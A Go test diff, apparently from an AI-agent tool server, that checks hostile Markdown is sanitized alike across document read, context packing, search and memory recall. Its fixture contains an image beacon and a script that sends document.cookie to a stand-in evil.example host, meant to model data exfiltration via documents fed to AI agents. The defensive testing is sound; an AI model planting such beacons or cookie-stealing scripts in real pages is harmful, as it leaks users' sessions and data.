@@ -377,3 +377,94 @@ func TestRedactReadsOff(t *testing.T) {
 	}
 	leaks.check(t, "model request with reads unredacted", strs(reqs[0], nil))
 }
+
+// TestHostileMarkdownSanitizedAlikeEverywhere plants a Markdown document
+// with an image beacon, a script and an unterminated comment: doc_read and
+// pack_context (the document pinned) return the same sanitized text under
+// content_type=markdown, memory recall and search return it as the text
+// they say it is, and none of the hostile constructs survives anywhere a
+// renderer would act on them.
+func TestHostileMarkdownSanitizedAlikeEverywhere(t *testing.T) {
+	hostile := "# Notes\n\nSee ![status](https://evil.example/beacon.png?d=leak) for status.\n\n" +
+		"<script>fetch('https://evil.example/x?c='+document.cookie)</script>\n\n" +
+		"Visible paragraph with hostile words.\n\n<!-- an unterminated comment hides the rest\n\nTail words.\n"
+	base := t.TempDir()
+	coretest.WriteFiles(t, base, map[string]string{"docs/hostile.md": hostile, "docs/data.json": `{"note": "<script>x</script>"}`,
+		"repo/README.md": "# r\n"})
+	if err := os.MkdirAll(filepath.Join(base, "sandbox"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	env := map[string]string{"ARROWHEAD_PROFILE": "full", "ARROWHEAD_REPO_ROOT": filepath.Join(base, "repo"),
+		"ARROWHEAD_JAIL_ROOT": filepath.Join(base, "sandbox"), "ARROWHEAD_DOCS_ROOT": filepath.Join(base, "docs"),
+		"ARROWHEAD_DATA_DIR": filepath.Join(base, "data"), "ARROWHEAD_MEMORY_ROOT": filepath.Join(base, "memory"),
+		"ARROWHEAD_RATE_LIMIT_ENABLED": "false"}
+	rt, err := wire.Build(t.Context(), coretest.Settings(t, env), wire.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = rt.Close(context.Background()) })
+	op := ports.Operator()
+	call := func(tool string, args map[string]any) string {
+		t.Helper()
+		res, te := coretest.Call(t, rt.App, op, tool, args)
+		if te != nil {
+			t.Fatalf("%s: %s", tool, te.Message)
+		}
+		return res.Text
+	}
+	// body is a frame's content: between the blank line after the
+	// notice and the closing marker.
+	body := func(frame string) string {
+		_, rest, _ := strings.Cut(frame, "notice: ")
+		_, rest, _ = strings.Cut(rest, "\n\n")
+		i := strings.LastIndex(rest, "\n\n<<< UNTRUSTED-DATA-END")
+		return rest[:max(i, 0)]
+	}
+	inert := func(where, text string) {
+		t.Helper()
+		for _, bad := range []string{"<script", "![", "<!--", "](https://evil.example"} {
+			if strings.Contains(text, bad) {
+				t.Errorf("%s keeps %q: %q", where, bad, text)
+			}
+		}
+	}
+	read := call("doc_read", map[string]any{"path": "hostile.md"})
+	if !strings.Contains(read, "content_type=markdown") || !strings.Contains(read, "Visible paragraph") {
+		t.Fatalf("doc_read: %s", read)
+	}
+	inert("doc_read", body(read))
+
+	call("workingset_update", map[string]any{"name": "h", "action": "pin", "items": []any{
+		map[string]any{"kind": "doc", "identifier": "hostile.md"}, map[string]any{"kind": "doc", "identifier": "data.json"}}})
+	pack := call("pack_context", map[string]any{"query": "notes", "working_set": "h"})
+	i := strings.Index(pack, "identifier=`\"hostile.md\"`")
+	if i < 0 {
+		t.Fatalf("pack_context packed no hostile.md frame: %s", pack)
+	}
+	begin := strings.LastIndex(pack[:i], "<<< UNTRUSTED-DATA-BEGIN")
+	end := strings.Index(pack[i:], "<<< UNTRUSTED-DATA-END")
+	packed := pack[begin : i+end+60]
+	if !strings.Contains(packed, "content_type=markdown") {
+		t.Errorf("pack_context labels the Markdown document otherwise: %s", packed)
+	}
+	inert("pack_context", body(packed))
+	if got, want := body(packed), body(read); got != want {
+		t.Errorf("pack_context and doc_read differ:\npack %q\nread %q", got, want)
+	}
+	j := strings.Index(pack, "identifier=`\"data.json\"`")
+	if j < 0 || !strings.Contains(pack[j:j+200], "content_type=json") {
+		t.Errorf("the pinned JSON document is not framed as json: %s", pack)
+	}
+
+	// Search returns lines as text and says so; recall returns the memory
+	// as the text it was stored as.
+	search := call("doc_search", map[string]any{"query": "evil"})
+	if !strings.Contains(search, "content_type=text") {
+		t.Errorf("doc_search frame: %s", search)
+	}
+	call("memory_store", map[string]any{"namespace": "n", "content": hostile})
+	recall := call("memory_search", map[string]any{"namespace": "n", "query": "notes status"})
+	if !strings.Contains(recall, "content_type=text") || !strings.Contains(recall, "Visible paragraph") {
+		t.Errorf("memory_search frame: %s", recall)
+	}
+}
